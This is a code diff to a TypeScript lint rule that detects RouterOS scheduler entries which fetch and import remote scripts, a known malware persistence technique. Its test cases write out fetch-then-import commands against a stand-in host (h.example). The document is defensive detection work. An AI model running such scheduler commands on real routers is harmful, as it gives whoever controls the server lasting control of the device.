@@ -1,8 +1,8 @@
-import type { CommandUse, EmbeddedScript } from '../../model/types';
+import type { CommandUse, EmbeddedScript, ScriptModel } from '../../model/types';
 import { defineRule, type Report } from '../rule';
-import { fetchesOf, fileName, type Fetch } from '../support/fetch';
+import { fetchesOf, fileName, isLoopback, isNear, type Fetch } from '../support/fetch';
 import { fetchedCode } from '../support/fetchedCode';
-import { argumentNamed } from '../support/items';
+import { argumentNamed, isInert, itemsOf } from '../support/items';
 
 const menu = '/system/scheduler';
 
@@ -51,29 +51,46 @@ If you did not write it, treat the router as taken over: save what you need by r
       script: '/system script add name=update source={ /tool fetch url=http://h.example/x.rsc; /import x.rsc }',
       because: 'Nothing runs it by itself: the rule fetch-then-import reports it',
     },
+    {
+      script:
+        '/system scheduler add interval=10m name=U6 on-event={ /tool fetch url=http://h.example/x.rsc; /import x.rsc }\n/system scheduler remove [find name=U6]',
+      because: 'The script removes the entry again',
+    },
+    {
+      script:
+        '/system scheduler add interval=1d name=sync on-event={ /tool fetch url=http://127.0.0.1/x.rsc; /import x.rsc }',
+      because: 'The router itself is the server',
+    },
   ],
   menus: [menu],
   check({ script, report }) {
     for (const embedded of script.embedded) {
       const { command } = embedded;
       if (command.menu !== menu || embedded.argument.name !== 'on-event') continue;
-      const found = judge(command, embedded);
-      if (found !== undefined) report({ span: (argumentNamed(command, 'name') ?? embedded.argument).span, ...found });
+      const found = isRemoved(script, command) ? undefined : judge(command, embedded);
+      if (found === undefined) continue;
+      const span = (argumentNamed(command, 'name') ?? embedded.argument).span;
+      report({ span, ...found, ...(isOff(script, command) ? { severity: 'hint' as const } : {}) });
     }
   },
 });
 
 function judge(command: CommandUse, embedded: EmbeddedScript): Omit<Report, 'span'> | undefined {
   const { script, argument } = embedded;
-  const [code] = fetchedCode(script);
-  if (code !== undefined) {
-    const safe = code.fetch.verified === true && code.fetch.protocol !== 'http';
+  const codes = fetchedCode(script).filter(({ fetch }) => !isLoopback(fetch.host));
+  if (codes.length > 0) {
+    const safe = codes.every(({ fetch }) => isProven(fetch));
+    // As fetch-then-import judges it: a server of one's own network, or one that proves who it is by other means, is less.
+    const known = codes.every(({ fetch }) => isProven(fetch) || isKnown(fetch));
     return {
-      ...(safe ? { severity: 'information' as const } : {}),
+      ...(known ? { severity: 'information' as const } : {}),
       message: safe
         ? 'The scheduler runs what it fetches, unattended: whoever controls the server controls the router. If you did not make this entry, the router has been taken over.'
         : 'The scheduler fetches a script and runs it, and nothing proves where it came from: this is how malware stays on a router. If you did not make this entry, the router has been taken over.',
-      related: [{ span: embedded.toOuterSpan(code.runs.span), message: 'It is run here' }],
+      related: [...new Set(codes.map(({ runs }) => runs))].map(({ span }) => ({
+        span: embedded.toOuterSpan(span),
+        message: 'It is run here',
+      })),
     };
   }
   const [fetch] = fetchesOf(script);
@@ -89,6 +106,28 @@ function judge(command: CommandUse, embedded: EmbeddedScript): Omit<Report, 'spa
     message: `This entry of the scheduler ${suspect}: if you did not make it, the router may have been taken over. Look at what it fetches.`,
     related: [{ span: argument.span, message: 'What it does' }],
   };
+}
+
+/** Does the server prove by a certificate who it is? */
+function isProven({ verified, protocol }: Fetch): boolean {
+  return verified === true && protocol !== 'http';
+}
+
+function isKnown({ protocol, host }: Fetch): boolean {
+  return protocol === 'sftp' || (isNear(host) && protocol !== 'https');
+}
+
+/** Does the script take the entries away again that the command writes? */
+function isRemoved(script: ScriptModel, command: CommandUse): boolean {
+  const items = itemsOf(script.state(menu), command);
+  return items.length > 0 && items.every(({ removed }) => removed);
+}
+
+/** Is the entry switched off: it runs nothing until somebody switches it on? */
+function isOff(script: ScriptModel, command: CommandUse): boolean {
+  const state = script.state(menu);
+  const items = itemsOf(state, command);
+  return items.length > 0 && items.every((item) => isInert(state, item));
 }
 
 function isStartup(command: CommandUse): boolean {
